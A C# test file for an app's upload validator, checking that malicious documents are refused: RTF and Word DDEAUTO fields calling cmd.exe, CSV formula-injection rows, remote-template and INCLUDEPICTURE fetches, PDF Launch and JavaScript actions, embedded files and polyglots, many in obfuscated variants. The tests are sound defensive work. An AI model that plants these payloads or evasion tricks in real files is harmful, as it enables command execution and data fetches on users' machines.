using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using static Wardwise.App.Tests.Records.MadeFiles;

namespace Wardwise.App.Tests.Records;

/// <summary>What is made to look harmless is known for what it does when it is opened.</summary>
public sealed class FilesThatLieTests
{
    [Theory]
    [InlineData(@"{\rtf1{\object\objocx{\*\objdata01 05}}}")]
    [InlineData(@"{\rtf1\objupdate1 x}")]
    [InlineData("{\\rtf1{\\ob\r\njdata 0105}}")]
    [InlineData(@"{\rtf1{\ob\'6adata 0105}}")]
    [InlineData(@"{\rtf1{\*\generator{\*\aaa\objdata 0105}}}")]
    [InlineData(@"{\rtx1{\*\OBJDATA 0105}}")]
    [InlineData(@"{\rtf1{\field{\*\fldinst DDEAUTO c:\\cmd.exe ""/k""}{\fldrslt x}}}")]
    [InlineData(@"{\rtf1{\field{\*\fldinst {\b D}{\i DE}AUTO c:\\cmd.exe}{\fldrslt x}}}")]
    [InlineData(@"{\rtf1{\field{\*\fldinst \'44\u68?\u69?AUTO c}{\fldrslt x}}}")]
    [InlineData(@"{\rtf1{\field{\*\fldinst { INCLUDEPICTURE ""http://a.example/1.png"" }}{\fldrslt x}}}")]
    [InlineData(@"{\rtf1{\field{\*\fldinst INCLUDETEXT ""\\\\a.example\\x""}{\fldrslt x}}}")]
    [InlineData(@"{\rtf1{\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69}{\fldrslt DDE}} c}{\fldrslt x}}}")]
    [InlineData(@"{\rtf1{\*\template \u92?\u92?a.example\u92?t.dotm}}")]
    [InlineData(@"{\rtf1{\*\template \uc0\u104\u116\u116\u112://a.example/t.dotm}}")]
    [InlineData(@"{\rtf1{\*\template ..\\t.dotm}}")]
    [InlineData(@"{\rtf1{\shp{\sp{\sn pibName}{\sv http://a.example/1.png}}}}")]
    [InlineData(@"{\rtf1\bin5 }}}}}}")]
    [InlineData(@"{\rtf1{\field{\*\fldinst \uc20\u32 AAAAAAAAAAPAGE AAAAADDEAUTO c}{\fldrslt x}}}")]
    [InlineData(@"{\rtf1{\field{\*\fldinst \uc1\u32\b DDEAUTO c}{\fldrslt x}}}")]
    [InlineData(@"{\rtf1\u32\uc9 {\field{\*\fldinst \u32 DDEAUTO c}{\fldrslt x}}}")]
    [InlineData(@"{\rtf1{\field{\*\fldinst {\*\zz PAGE }DDEAUTO c}{\fldrslt x}}}")]
    [InlineData(@"{\rtf1{\field{\*\fldinst {\v{\*\bkmkstart PAGE q}}DDEAUTO c}{\fldrslt x}}}")]
    [InlineData(@"{\rtf1{\field{\*\fldinst {\footnote PAGE }DDEAUTO c}{\fldrslt x}}}")]
    [InlineData(@"{\rtf1{\field{\*\fldinst {\*\bkmkstart {\*\fldinst DDE c}}}{\fldrslt x}}}")]
    public void ARichTextWithObjectsOrWhatFetches_IsRefused(string text) => Refuses("inside", "plan.rtf", text);

    public static TheoryData<string> Fields =>
        new(
            Field(" DDEAUTO c:\\\\cmd.exe \"/k\" "),
            Field("D", "DE", "AUTO c"),
            Field(" \tincludepicture \"http://a.example/1.png\" \\d "),
            Field("INCLUDETEXT \"\\\\\\\\a.example\\\\x\""),
            Field(" LINK Excel.Sheet.12 x"),
            Field(Field("QUOTE 68 68 69"), " c"),
            Field("D", Field("QUOTE 68 69"), " c"),
            Field(" IF 1 = 1 ", Field(" DDE c ")),
            Field("\"DDEAUTO\" c"),
            Field(" \u200BDDEAUTO c"),
            Field(new string(' ', 5_000), "DDE c"),
            "<w:fldSimple w:instr=' DDE c '/>",
            "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DDE c</w:instrText></w:r>",
            "<w:r><w:fldChar x:fldCharType='none' w:fldCharType='begin'/></w:r><w:r><w:instrText>DDE c</w:instrText></w:r>",
            "<w:fldSimple x:instr='PAGE' w:instr='DDEAUTO c'/>",
            "<w:r><w:instrText>DDE c</w:instrText></w:r>",
            "<w:r><w:instrText>PAGE </w:instrText></w:r><w:r><w:instrText>DDE c</w:instrText></w:r>",
            Field("PAGE").Replace("<w:t>", "<w:instrText>DDE c</w:instrText><w:t>", StringComparison.Ordinal),
            Field("D", "<x:fldChar x:fldCharType='end'/>", "DE c"),
            Field("<x:instrText>PAGE </x:instrText>", "DDE c"),
            Field("<a:t>PAGE </a:t>", "DDE c"),
            "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText><!--PAGE -->DDE c</w:instrText></w:r>",
            "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>D<x:x/>DE c</w:instrText></w:r>",
            "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText><?x PAGE ?>D<![CDATA[DE]]> c</w:instrText></w:r>",
            "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText><x:i>PAGE </x:i>DDE c</w:instrText></w:r>",
            Field("D", "<w:r><w:delInstrText>xx</w:delInstrText></w:r>", "DE c"),
            Field("D", "<w:del><w:r><w:instrText>xx</w:instrText></w:r></w:del>", "DE c"),
            Field(
                "PAGE ",
                "<w:del><w:r><w:fldChar w:fldCharType='begin'/></w:r></w:del>",
                "<w:r><w:delInstrText>DDE c</w:delInstrText></w:r>"
            ),
            Field("D", Branches("xx", "DE c")),
            Field("D", Branches("", "xx"), "DE c"),
            Field("D", Branches("DE c", "xx", "xx"), "c"),
            Field(Branches("PAGE ", "DDEAUTO c", "PAGE")),
            Field(Branches("PAGE ", "D"), Branches("DE c", " x")),
            "<x:AlternateContent><x:Choice>"
                + Field("D").Split("<w:r><w:fldChar w:fldCharType='separate'")[0]
                + "</x:Choice>"
                + "</x:AlternateContent>"
                + Field("DE c"),
            Field("D", Branches("xx", "xx", "DE"), "<w:r><w:delInstrText>x</w:delInstrText></w:r>", "AUTO c")
        );

    /// <summary>What each program takes another branch of.</summary>
    private static string Branches(params string[] codes) =>
        "<x:AlternateContent>"
        + string.Concat(codes.SkipLast(1).Select(c => $"<x:Choice><w:r><w:instrText>{c}</w:instrText></w:r></x:Choice>"))
        + $"<x:Fallback><w:r><w:instrText>{codes[^1]}</w:instrText></w:r></x:Fallback></x:AlternateContent>";

    [Fact]
    public void AWordDocumentWithPageNumbersInBoxes_AndOneTakenOut_IsTaken()
    {
        var box = Field("PAGE");
        var body =
            $"<x:AlternateContent><x:Choice>{box}</x:Choice><x:Fallback>{box}</x:Fallback></x:AlternateContent>"
            + $"<w:del>{box.Replace("instrText", "delInstrText", StringComparison.Ordinal)}</w:del><w:rPr><w:del/></w:rPr>{Field("DATE")}";
        Assert.True(Of("plan.docx", Word(body)).Done);
    }

    [Theory]
    [MemberData(nameof(Fields))]
    public void AWordDocumentWhoseFieldsFetch_IsRefused_InWhateverPart(string body)
    {
        Refuses("inside", "plan.docx", Word(body));
        Refuses("inside", "plan.docx", Word("", ("word/header1.xml", Encoding.UTF8.GetBytes($"<w:hdr {Names}>{body}</w:hdr>"))));
        Refuses("inside", "plan.docx", Word("", ("odd/part.x", Encoding.Unicode.GetBytes($"\uFEFF<w:hdr {Names}>{body}</w:hdr>"))));
    }

    [Fact]
    public void APartOfADocumentOfOfficeThatNobodyCanRead_IsRefused_WhateverItIsCalled()
    {
        byte[] Main(string types, string part, string content) =>
            Zip(("[Content_Types].xml", $"<Types>{types}</Types>"), ("word/document.xml", "<w/>"), (part, content));
        const string Sort = "ContentType='application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'";
        var broken = $"<w:document {Names}><w:p>&nbsp;</w:p>{Field("DDE c")}</w:document>";
        Refuses("damaged", "plan.docx", Main($"<Override PartName='/word/real.dat' {Sort}/>", "word/real.dat", broken));
        Refuses("damaged", "plan.docx", Main($"<Override PartName='/word/re%61l.dat' {Sort}/>", "word/real.dat", "x" + broken));
        Refuses("damaged", "plan.docx", Main($"<Default Extension='DAT' {Sort}/>", "word/real.dat", "x"));
        Refuses("damaged", "plan.docx", Main("", "word/real.dat", "<!DOCTYPE w:document>" + broken));
        Assert.True(Of("plan.docx", Main("", "word/drawing1.vml", "<xml><br></xml>")).Done);
    }

    [Theory]
    [InlineData("settings.xml", "<w:attachedTemplate r:id='r9'/>", false)]
    [InlineData("odd.xml", "<w:subDoc r:id='r9'/>", false)]
    [InlineData("document2.xml", "<w:hyperlink r:id='r9'/>", true)]
    public void WhatIsFetchedByARelation_IsRefused_WhateverSortTheRelationSaysItIs(string part, string says, bool isTaken)
    {
        const string Space = "xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'";
        var file = Word(
            "",
            ($"word/{part}", Encoding.UTF8.GetBytes($"<w:settings {Names} {Space}>{says}</w:settings>")),
            (
                $"word/_rels/{part}.rels",
                [
                    .. "<Relationships><Relationship Id='r9' Type='x/hyperlink' "u8,
                    .. "Target='http://a.example' TargetMode='External'/></Relationships>"u8,
                ]
            )
        );
        if (isTaken)
        {
            Assert.True(Of("plan.docx", file).Done);
        }
        else
        {
            Refuses("inside", "plan.docx", file);
        }
    }

    [Theory]
    [InlineData("inside", "content.xml", "<c formula='of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)'/>")]
    [InlineData("inside", "content.xml", "<c expression=\"msoxl:=cmd|'/c calc'!A0\"/>")]
    [InlineData("inside", "content.xml", "<c formula='of:=COM.MICROSOFT.WEBSERVICE(&quot;http://a.example&quot;)'/>")]
    [InlineData("inside", "content.xml", "<instance src='http://a.example/'/>")]
    [InlineData("macros", "Configurations2/accelerator/current.xml", "<i x:href='vnd.sun.star.script:a?language=Basic'/>")]
    [InlineData("macros", "Configurations2/toolbar/a.xml", "<i x:href='macro:///a'/>")]
    [InlineData("inside", "meta.xml", "<auto-reload x:href='//a.example/x'/>")]
    public void AnOpenDocumentThatAsksOthers_IsRefused(string says, string part, string content) =>
        Refuses(
            says,
            "list.ods",
            Zip(
                ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
                (part, $"<o xmlns:x='http://www.w3.org/1999/xlink'>{content}</o>")
            )
        );

    [Theory]
    [InlineData("=cmd|'/C calc'!A0,1")]
    [InlineData("1;\"=1+cmd|' /C calc'!A0\"")]
    [InlineData("@SUM(1,9)*cmd|'/C calc'!A0")]
    [InlineData("-2+3+cmd|'/C calc'!A0")]
    [InlineData("+Excel|Sheet1!R1C1")]
    [InlineData("=DDE(\"cmd\";\"/C calc\";\"x\")")]
    public void ATableAsTextWhoseCellsAskAProgram_IsRefused(string row) => Refuses("inside", "list.csv", "a,b\r\n" + row + "\r\n");

    [Theory]
    [InlineData("<?xml version='1.0'?><!DOCTYPE r [<!ENTITY a 'x'>]><r>&a;<h:script xmlns:h='x'>alert(1)</h:script></r>")]
    [InlineData("<r>&nbsp;<h:script xmlns:h='x'/></r>")]
    [InlineData("<!DOCTYPE r [<!ENTITY a '&#60;h:scr&#105;pt/>'>]><r>&a;</r>")]
    [InlineData("<r xmlns:h='http://www.w3.org/1999/xhtml'>&a;</r>")]
    public void MarkupThatWeCannotRead_IsRefused_WhenABrowserMightRunIt(string text) => Refuses("Web pages", "a.xml", text);

    [Theory]
    [InlineData("word/media/image1.png")]
    [InlineData("word/theme/odd")]
    public void AProgramAsAPartOfADocument_IsRefused(string part)
    {
        Refuses("inside", "plan.docx", Word("", (part, RunsAsIs)));
        Refuses("inside", "plan.odt", ZipOf(("mimetype", "application/vnd.oasis.opendocument.text"u8.ToArray()), (part, RunsAsIs)));
    }

    [Theory]
    [InlineData("<x:externalLink xmlns:x='x'><x:ddeLink ddeService='cmd' ddeTopic='/c calc'/></x:externalLink>")]
    [InlineData("<x:connections xmlns:x='x'><x:connection refreshOnLoad='1'/></x:connections>")]
    [InlineData("<x:connections xmlns:x='x'><x:connection interval='1'/></x:connections>")]
    [InlineData("<pivotCacheDefinition refreshOnLoad='1'><cacheSource type='external' connectionId='1'/></pivotCacheDefinition>")]
    [InlineData("<workbook><definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames></workbook>")]
    [InlineData("<workbook><definedName name='a'>cmd<!--x-->|Sheet!A0</definedName></workbook>")]
    [InlineData("<chart><f>_xlfn.WEBSERVICE(&quot;http://a.example&quot;)</f></chart>")]
    [InlineData("<p:sld xmlns:p='p' xmlns:a='a'><a:hlinkHover action='ppaction://program'/></p:sld>")]
    [InlineData("<r:Relationships xmlns:r='r'><r:Relationship Type='x/aFChunk' Target='part.x'/></r:Relationships>")]
    public void ATableASlideOrATextThatStartsOrFetches_IsRefused(string part) =>
        Refuses("inside", "plan.docx", Word("", ("xl/part.xml", Encoding.UTF8.GetBytes(part))));

    [Theory]
    [InlineData("macros", "<o:scripts><o:script><module>Sub Main</module></o:script></o:scripts>")]
    [InlineData("macros", "<s:event-listener/>")]
    [InlineData("macros", "<a x:href='vnd.sun.star.script:a?language=Basic'/>")]
    [InlineData("inside", "<image x:href='http://a.example/1.png'/>")]
    [InlineData("inside", "<auto-reload x:href='http://a.example/'/>")]
    [InlineData("inside", "<dde-source/>")]
    [InlineData("inside", "<object-ole/>")]
    public void AFlatOpenDocumentThatRunsOrFetches_IsRefused(string says, string content) => Refuses(says, "plan.fodt", Flat(content));

    [Fact]
    public void XmlThatIsAPageOrADocumentOfOffice_IsRefused_HoweverLateItSaysSo()
    {
        var comment = "<?xml version='1.0'?><!--" + new string('x', 9_000) + "-->";
        Refuses("Web pages", "a.xml", comment + "<a><h:script xmlns:h='http://www.w3.org/1999/xhtml'/></a>");
        Refuses("Web pages", "a.xml", comment + "<?xml-stylesheet href='a.xsl'?><a/>");
        Refuses("macros", "a.xml", comment + "<?mso-application progid='Word.Document'?><a/>");
        Refuses("macros", "a.xml", comment + "<p:package xmlns:p='http://schemas.microsoft.com/office/2006/xmlPackage'/>");
    }

    [Theory]
    [InlineData("/S/SubmitForm/F(http://a.example)")]
    [InlineData("/S/GoToR/F(\\\\\\\\a.example\\\\x.pdf)")]
    [InlineData("/S/GoToE/T<<>>")]
    [InlineData("/XFA 5 0 R")]
    [InlineData("/#58FA[(template) 5 0 R]")]
    [InlineData("/S/Rendition/JS(app.alert)")]
    [InlineData("/S/Rendition")]
    [InlineData("/JS (app.alert)")]
    [InlineData("/JS%\n<FEFF0061>")]
    [InlineData("/J#53 5 0 R")]
    [InlineData("/S/JavaScript\0/X")]
    [InlineData("/S/Launch\f/F(cmd.exe)")]
    [InlineData("/JS\0(app.alert)")]
    [InlineData("/JS<\0FE\fFF00>")]
    [InlineData("/OpenAction<</S/URI/URI(http://a.example)>>")]
    [InlineData("/AA<</O<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://a.example)>>>>>>")]
    [InlineData("/OpenAction 5 0 R>>endobj\n5 0 obj<</S/URI\0/URI(http://a.example)")]
    [InlineData("/OpenAction 5 0 R>>endobj\n5%\n0 obj<</S/URI/URI(http://a.example)")]
    [InlineData("/AA 4 0 R>>endobj\n4 0 obj<</Fo 6 0 R>>endobj\n6 0 obj<</S/Named/Next[7 0 R]>>endobj\n7 0 obj<</S/URI/URI(x)")]
    public void APdfThatSendsOrOpensOthers_IsRefused(string action) =>
        Refuses("This PDF", "plan.pdf", $"%PDF-1.4\n1 0 obj\n<<{action}>>\nendobj");

    [Theory]
    [InlineData("/Type/EmbeddedFile")]
    [InlineData("/Names<</EmbeddedFiles 5 0 R>>")]
    [InlineData("/Type/Filespec/F(a.exe)/EF<</F 5 0 R>>")]
    [InlineData("/EF 5 0 R")]
    [InlineData("/E#46%\n5\0000 R")]
    [InlineData("/EF 5%\n0 R")]
    [InlineData("/Subtype/FileAttachment\0")]
    public void APdfWithAFileInside_IsRefused(string inside) => Refuses("inside", "plan.pdf", $"%PDF-1.4\n1 0 obj\n<<{inside}>>\nendobj");

    [Theory]
    [InlineData("/S/URI/URI(https://a.example)")]
    [InlineData("/OpenAction[3 0 R/Fit]>>endobj 3 0 obj<</Annots[5 0 R]>>endobj 5 0 obj<</A<</S/URI/URI(https://a.example)>>")]
    [InlineData("/OpenAction 4 0 R>>endobj 4 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj 3 0 obj<</A 5 0 R>>endobj 5 0 obj<</S/URI/URI(x)")]
    public void APdfWithLinks_IsTaken(string links) =>
        Assert.Equal("application/pdf", Of("plan.pdf", Encoding.ASCII.GetBytes($"%PDF-1.4\n1 0 obj\n<<{links}>>\nendobj")).Value);

    [Fact]
    public void APdfThatIsSomethingElseAsWell_IsRefused()
    {
        Refuses("two kinds", "a.txt", "Notes of the meeting\n%PDF-1.4\n1 0 obj\n<</S/JavaScript>>\nendobj");
        Refuses("two kinds", "a.pdf", "%PDF-1.4\n<HTML><b>hello</b>\n1 0 obj\n<<>>\nendobj");
        Refuses("two kinds", "a.pdf", [.. "%PDF-1.4\n1 0 obj\n<<>>\nendobj\n"u8, .. Zip(("a.class", "x"))]);
        Refuses("two kinds", "a.docx", ZipOf(("a%PDF-1.4", [1]), ("[Content_Types].xml", "<Types/>"u8.ToArray())));
        Refuses("two kinds", "a.docx", ZipOf(("a<script>", [1]), ("[Content_Types].xml", "<Types/>"u8.ToArray())));
        // Parts of documents are called after scripts, and are none.
        var kind = "application/vnd.oasis.opendocument.text"u8.ToArray();
        Assert.True(Of("a.odt", ZipOf(("mimetype", kind), ("<script:x", [1]), ("content.xml", "<o/>"u8.ToArray()))).Done);
    }

    [Fact]
    public void AnOldDocumentThatHidesAnother_OrFetches_IsRefused()
    {
        Refuses("macros", "a.doc", Compound(("WordDocument", [1]), ("Package", Word("", ("word/vbaProject.bin", [1])))));
        Refuses("inside", "a.doc", Compound(("WordDocument", [1]), ("CONTENTS", "%PDF-1.4\n1 0 obj\n<</S/Launch>>\nendobj"u8.ToArray())));
        Refuses("inside", "a.doc", Compound(("WordDocument", [1]), ("Odd", RunsAsIs)));
        Refuses("inside", "a.doc", Compound(("WordDocument", [1, 0x13, .. " DDEAUTO c:\\cmd"u8])));
        Refuses("inside", "a.doc", Compound(("WordDocument", [1, 0x13, 0, .. Encoding.Unicode.GetBytes("INCLUDEPICTURE x")])));
        Refuses("macros", "a.ppt", Compound(("PowerPoint Document", Packed(Compound(("VBA", [1]))))));
        Refuses("inside", "a.ppt", Compound(("PowerPoint Document", Packed(RunsAsIs))));
        Refuses("inside", "a.xls", Compound(("Workbook", Outside([0, 0, 6, 0, 0, 3, .. "cmd"u8, 3, .. "/c"u8]))));
        Refuses("inside", "a.xls", Compound(("Workbook", Outside([1, 0, 8, 0, 0, 1, .. "http:a"u8]))));
        Refuses("inside", "a.xls", Compound(("Workbook", Outside([]))));
        Refuses("inside", "a.xls", Compound(("Book", OldOutside([7, .. "cmd"u8, 3, .. "/cx"u8]))));
        Refuses("inside", "a.xls", Compound(("Book", OldOutside([6, 1, .. "a.xls"u8]))));
        Refuses("archive", "a.msg", Compound(("__properties_version1.0", [0]), ("__substg1.0_37010102", Zip(("a.txt", "a")))));
    }

    [Theory]
    [InlineData(
        "photo.jpg",
        "%PDF-1.4\n",
        "This is a PDF, but its name ends in “.jpg”. Give it a name that ends in “.pdf”, then attach it."
    )]
    [InlineData(
        "plan.docx",
        "{\\rtf1 x}",
        "This is a rich text, but its name ends in “.docx”. Give it a name that ends in “.rtf”, then attach it."
    )]
    [InlineData(
        "plan.pdf",
        "hello",
        "This is plain text, but its name ends in “.pdf”. Give it a name that ends in “.txt”, then attach it."
    )]
    [InlineData(
        "plan.odd",
        "hello",
        "This is plain text, but its name ends in “.odd”. Give it a name that ends in “.txt”, then attach it."
    )]
    [InlineData(
        "photo.png",
        "GIF89a",
        "This is a GIF picture, but its name ends in “.png”. Give it a name that ends in “.gif”, then attach it."
    )]
    public void ANameThatEndsAsAnotherSortDoes_IsRefused_AndSaysWhatTheFileIs(string name, string content, string says) =>
        Refuses(says, name, content);

    [Fact]
    public void AnOldDocumentOfMoreEntriesThanAreRead_IsRefused() => Refuses("damaged", "a.doc", Wide(100_001));

    /// <summary>An object as a presentation keeps it.</summary>
    private static byte[] Packed(byte[] inside)
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true))
        {
            zlib.Write(inside);
        }

        var slides = new byte[12 + packed.Length];
        BinaryPrimitives.WriteUInt16LittleEndian(slides, 0x10);
        BinaryPrimitives.WriteUInt16LittleEndian(slides.AsSpan(2), 0x1011);
        BinaryPrimitives.WriteUInt32LittleEndian(slides.AsSpan(4), (uint)(4 + packed.Length));
        packed.ToArray().CopyTo(slides, 12);
        return slides;
    }
}
